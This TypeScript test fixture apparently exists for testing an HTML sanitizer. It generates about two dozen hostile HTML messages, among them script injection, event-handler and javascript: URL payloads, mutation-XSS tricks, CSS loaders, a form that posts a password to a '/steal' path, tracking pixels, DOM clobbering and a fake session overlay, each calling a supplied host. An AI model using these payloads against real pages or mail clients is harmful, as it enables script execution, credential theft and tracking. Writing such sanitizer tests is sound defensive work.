/** The request that must never be made: each message below tries it in another way. */
const script = (where: string) => `fetch('${where}/ran');document.title='ran'`;

/**
 * Hostile messages: they try to run, load, cover the page or look like part of it. `where` is the address that receives
 * a request if one succeeds.
 */
export function hostileMessages(where: string): readonly { readonly name: string; readonly html: string }[] {
  const run = script(where);
  const encoded = Buffer.from(`<script>${run}</script>`).toString('base64');
  const cases: Readonly<Record<string, string>> = {
    'a script': `<script>${run}</script><p>words</p>`,
    'a script in pieces': `<scr<script>ipt>${run}</scr</script>ipt><p>words</p>`,
    'a script from elsewhere': `<script src="${where}/s.js"></script><script src="//${where.slice(7)}/t.js"></script>`,
    'a picture that fails': `<img src="x" onerror="${run}"><img src=x onerror=${run.replaceAll(' ', '')}>`,
    'a drawing that loads': `<svg onload="${run}"><script>${run}</script><image href="${where}/i.png"/><use href="${where}/u.svg#x"/></svg>`,
    'a formula': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;"></table></mtext></math>`,
    'handlers everywhere': `<body onload="${run}"><div onmouseover="${run}" onfocus="${run}" tabindex=0 autofocus>words</div><details open ontoggle="${run}">x</details>`,
    'links that run': `<a href="javascript:${run}">a</a><a href="jAvAsCrIpT&#58;${run}">b</a><a href="java&#x0A;script:${run}">c</a><a href="data:text/html;base64,${encoded}">d</a><a href="vbscript:x">e</a>`,
    frames: `<iframe src="${where}/f.html"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><frameset><frame src="${where}/g.html"></frameset><object data="${where}/o.swf"></object><embed src="${where}/e.swf">`,
    'a form for the password': `<form action="${where}/steal" method="post"><input name="password" type="password" autofocus><button>Sign in</button></form><input type="image" src="${where}/b.png">`,
    'another address by itself': `<meta http-equiv="refresh" content="0;url=${where}/away"><base href="${where}/"><a href="/next">next</a>`,
    'links of the head': `<link rel="stylesheet" href="${where}/s.css"><link rel="preload" as="image" href="${where}/p.png"><link rel="dns-prefetch" href="${where}"><link rel="icon" href="${where}/i.ico">`,
    'styles from elsewhere': `<style>@import url(${where}/i.css); @font-face{font-family:x;src:url(${where}/f.woff)} p{background:url(${where}/bg.png)}</style><p>words</p>`,
    'styles that load': `<p style="background:url(${where}/a.png);background-image:url('${where}/b.png');list-style:url(${where}/c.png);content:url(${where}/d.png);cursor:url(${where}/e.cur)">words</p>`,
    'styles in disguise': `<p style="background:u\\72l(${where}/a.png)">a</p><p style="width:expression(${run})">b</p><p style="background:/**/url(${where}/b.png)">c</p><p style="color:red;}</style><script>${run}</script>">d</p>`,
    'a cover over the page': `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff"><h1>Your session has ended</h1></div>`,
    'pictures that tell': `<img src="${where}/pixel.gif" width="1" height="1"><img srcset="${where}/2x.png 2x" src="${where}/1x.png"><picture><source srcset="${where}/s.png"><img src="${where}/p.png"></picture><table background="${where}/t.png"><tr><td background="${where}/td.png">x</td></tr></table>`,
    'sound and film': `<audio src="${where}/a.mp3" autoplay></audio><video src="${where}/v.mp4" poster="${where}/p.png" autoplay></video><track src="${where}/t.vtt">`,
    'names of the page': `<a id="location" name="document">x</a><form id="body"><input name="innerHTML"></form><img name="cookie" id="token">`,
    'comments that end early': `<!--><script>${run}</script>--><!--[if IE]><script>${run}</script><![endif]--><![CDATA[<script>${run}</script>]]>`,
    'text that is not text': `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><textarea></textarea><script>${run}</script><xmp><script>${run}</script></xmp><plaintext><script>${run}</script>`,
    'a template': `<template><script>${run}</script><img src="${where}/t.png"></template><div><template shadowrootmode="open"><script>${run}</script></template></div>`,
    'data that is a page': `<img src="data:image/svg+xml;base64,${encoded}"><img src="data:text/html,<script>${run}</script>"><a href="data:text/html,x" target="_top">x</a>`,
    'ten thousand boxes': `${'<div><blockquote>'.repeat(5000)}words`,
    'attributes without an end': `<a href="${where}/x" title="${'x'.repeat(20000)}><img src=x onerror=${run}><p>words <a ping="${where}/ping" href="https://example.com/" target="_top">x</a>`,
    'a note of ours': `<img data-remote="${where}/r.png" data-cid="x" src="cid:none" alt="&quot; onerror=&quot;${run}"><p>&lt;img data-remote="${where}/q.png"&gt;</p>`,
  };
  return Object.entries(cases).map(([name, html]) => ({ name, html: `<html><body>${html}</body></html>` }));
}
